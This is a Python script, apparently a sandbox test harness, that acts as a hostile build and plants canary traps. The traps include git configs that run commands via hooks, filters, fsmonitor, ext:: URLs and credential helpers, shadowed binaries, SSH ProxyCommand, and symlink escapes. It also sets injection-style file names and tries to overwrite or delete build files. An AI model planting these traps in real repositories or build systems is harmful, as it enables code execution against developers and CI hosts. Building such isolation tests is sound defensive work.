"""Run by a hostile build, in its container or on its host: it leaves traps for whoever comes after it.

Arguments: a directory outside of what the build may write; the kind of trap in the place of `.git`. Each trap would
make a file `canary` there, or read `secret`, or write there.
"""

from __future__ import print_function

import os
import socket
import subprocess
import sys

SOURCE, CACHE = os.environ["TRISTAN_SOURCE"], os.environ["TRISTAN_CACHE"]
OUTSIDE, KIND = sys.argv[1:]
COMMAND = "touch %s/canary" % OUTSIDE
CONFIGURATION = """[core]
	repositoryformatversion = 0
	bare = false
	fsmonitor = %(command)s
	sshCommand = %(command)s
	gitProxy = %(command)s
	askPass = %(program)s
	editor = %(command)s
	pager = %(command)s
	hooksPath = %(hooks)s
	attributesFile = %(source)s/evil.attributes
[filter "evil"]
	clean = %(command)s
	smudge = %(command)s
	process = %(command)s
	required = true
[filter "lfs"]
	clean = %(command)s
	smudge = %(command)s
	process = %(command)s
[diff "evil"]
	textconv = %(command)s
	command = %(command)s
[merge "evil"]
	driver = %(command)s
[credential]
	helper = !%(command)s
[uploadpack]
	packObjectsHook = %(command)s
[alias]
	log = !%(command)s
	clean = !%(command)s
[gpg]
	program = %(program)s
[log]
	showSignature = true
[pager]
	log = %(command)s
[lfs]
	standalonetransferagent = evil
[lfs "customtransfer.evil"]
	path = %(program)s
[remote "origin"]
	url = ext::sh -c touch%% %(outside)s/canary
	uploadpack = %(command)s
[submodule "evil"]
	url = ext::sh -c touch%% %(outside)s/canary
	path = pkg
	update = !%(command)s
[url "ext::sh -c touch%% %(outside)s/canary ;"]
	insteadOf = http
[protocol]
	allow = always
"""
INCLUDE = """[include]
	path = %s/evil.configuration
"""
HOOKS = """post-checkout post-index-change reference-transaction pre-auto-gc fsmonitor-watchman post-merge
pre-commit post-rewrite update pre-receive post-update""".split()


def main():
    attempts()
    home()
    everywhere(SOURCE)
    names()
    links()
    specials()
    {"directory": directory, "file": pointer, "link": link, "pipe": pipe, "bare": bare}[KIND]()
    print("planted")


def write(path, text, mode=0o755):
    if not os.path.isdir(os.path.dirname(path)):
        os.makedirs(os.path.dirname(path))
    if os.path.islink(path):
        os.unlink(path)
    with open(path, "w") as target:
        target.write(text)
    os.chmod(path, mode)


def program():
    path = os.path.join(SOURCE, "evil.sh")
    write(path, "#!/bin/sh\n%s\ncat >/dev/null\n" % COMMAND)
    return path


def configuration():
    values = {"outside": OUTSIDE, "command": COMMAND}
    return CONFIGURATION % dict(
        values, source=SOURCE, program=program(), hooks=os.path.join(SOURCE, ".githooks")
    )


def attempts():
    """What would be gained at once: the scripts of this build, a sibling's files.

    Without a container both can be had; the next build's scripts are right again all the same.
    """
    build = os.environ["TRISTAN_BUILD"]
    if "TRISTAN_ISOLATION" in os.environ:
        write(build + "/do_build_project.sh", "#!/bin/sh\n%s\n" % COMMAND)
        return
    for path in (build, os.path.dirname(SOURCE)):
        for words in (
            ["sh", "-c", 'echo "$1" >"$2/do_build_project.sh"', "sh", COMMAND, path],
            ["mv", path, path + ".moved"],
            ["rm", "-rf", path + "/version"],
            ["ln", "-sfn", OUTSIDE, path + "/version"],
            ["mount", "-o", "remount,rw", path],
        ):
            with open(os.devnull, "w") as nothing:
                subprocess.call(words, stdout=nothing, stderr=nothing)
    found = subprocess.Popen(
        ["find", "/", "-name", "sibling.txt", "-not", "-path", "/proc/*"], stdout=subprocess.PIPE
    )
    print("siblings:", found.communicate()[0])


def everywhere(top):
    """What git, LFS and engines read beside a repository's files."""
    write(top + "/.gitattributes", "* filter=evil diff=evil merge=evil\n")
    write(top + "/evil.attributes", "* filter=evil\n")
    write(top + "/evil.configuration", configuration())
    write(top + "/.lfsconfig", configuration())
    write(top + "/.gitconfig", configuration())
    write(top + "/.mailmap", "evil\n")
    modules = '[submodule "evil"]\n\tpath = pkg\n\turl = ext::sh -c %s\n\tupdate = !%s\n'
    write(top + "/.gitmodules", modules % (COMMAND.replace(" ", "% "), COMMAND))
    for name in HOOKS:
        write("%s/.githooks/%s" % (top, name), "#!/bin/sh\n%s\n" % COMMAND)
    write(top + "/sitecustomize.py", "import os\nos.system(%r)\n" % COMMAND)
    for name in ("git", "docker", "sh", "ls", "python3", "python2", "env"):
        write("%s/%s" % (top, name), "#!/bin/sh\n%s\n" % COMMAND)


def home():
    """What programs of the SSH user would read, if they took this for a home directory."""
    top = os.path.join(CACHE, "home")
    write(top + "/.gitconfig", configuration())
    write(top + "/.config/git/config", configuration())
    write(top + "/.config/git/attributes", "* filter=evil\n")
    write(top + "/.ssh/config", "Host *\n\tProxyCommand %s\n" % COMMAND)
    write(top + "/.docker/config.json", '{"credsStore": "evil", "credHelpers": {"*": "evil"}}')
    write(top + "/.docker/cli-plugins/docker-buildx", "#!/bin/sh\n%s\n" % COMMAND)
    for name in (".profile", ".bashrc", ".bash_profile", ".netrc", ".pypirc", ".npmrc"):
        write(os.path.join(top, name), COMMAND + "\n")
    write(CACHE + "/gitconfig", configuration())
    replace(CACHE + "/dependency_lib", lambda path: os.symlink(OUTSIDE + "/made", path))
    replace(top + "/tmp", lambda path: os.symlink("../../../../../../../../..", path))


def names():
    """Files that are options or commands to whoever does not quote; names at the limit of what is legal."""
    odd = ["-rf", "--upload-pack=%s" % COMMAND.replace("/", "_"), "$(%s)" % "id", "; id", "a\nb"]
    odd += ["-", "--", "*", "git~1", "GIT~1", ".GIT", ".git ", ".git.", "Setup.py", "SETUP.PY"]
    odd += ["n" * 255, "\x1b]0;evil\x07", "%s", "'", '"', "\\", "\xff", "aux", "con"]
    for name in odd:
        write(os.path.join(SOURCE, "dist", name), "odd\n")
    os.chdir(SOURCE)
    for _ in range(60):  # too deep for a path
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
    os.chdir(SOURCE)


def links():
    """Where the next checkout writes, where the artifacts are collected, where an image's context begins."""
    replace(SOURCE + "/pkg", lambda path: os.symlink(OUTSIDE, path))
    replace(SOURCE + "/setup.py", lambda path: os.symlink(OUTSIDE + "/secret", path))
    os.symlink(OUTSIDE, SOURCE + "/dist/outside")
    os.symlink(OUTSIDE + "/secret", SOURCE + "/dist/secret.txt")
    os.symlink("../../../../../../../../../../../../../../.." + OUTSIDE, SOURCE + "/dist/up")
    os.symlink("loop", SOURCE + "/dist/loop")


def specials():
    """Who opens them waits for ever, or talks to the build."""
    os.mkfifo(SOURCE + "/dist/pipe")
    replace(SOURCE + "/shop.py", os.mkfifo)
    os.chdir(SOURCE)
    listener = socket.socket(socket.AF_UNIX)
    listener.bind("dist/socket")
    try:
        os.mknod(SOURCE + "/dist/disk", 0o60666, os.makedev(8, 0))
    except (OSError, AttributeError):
        print("no device")
    os.mkdir(SOURCE + "/locked")
    write(SOURCE + "/locked/in", "")
    os.chmod(SOURCE + "/locked", 0)


def replace(path, make):
    subprocess.call(["rm", "-rf", path])
    make(path)


def repository(top, more=""):
    write(top + "/config", configuration() + INCLUDE % SOURCE + more)
    write(top + "/HEAD", "ref: refs/heads/main\n")
    write(top + "/info/attributes", "* filter=evil\n")
    write(top + "/objects/info/alternates", OUTSIDE + "\n")
    write(top + "/refs/tags/keep", "0" * 40 + "\n")
    for name in HOOKS:
        write("%s/hooks/%s" % (top, name), "#!/bin/sh\n%s\n" % COMMAND)


def directory():
    repository(SOURCE + "/.git")


def pointer():
    repository(SOURCE + "/evil.git")
    write(SOURCE + "/evil.git/commondir", ".\n")
    write(SOURCE + "/.git", "gitdir: %s/evil.git\n" % SOURCE)


def link():
    repository(SOURCE + "/evil.git")
    os.symlink("evil.git", SOURCE + "/.git")


def pipe():
    os.mkfifo(SOURCE + "/.git")


def bare():
    """Git takes a directory that looks like one for a repository, also without the name."""
    for top in (SOURCE, SOURCE + "/dist/bare.git"):
        repository(top, "[core]\n\tworktree = %s\n" % top)


main()
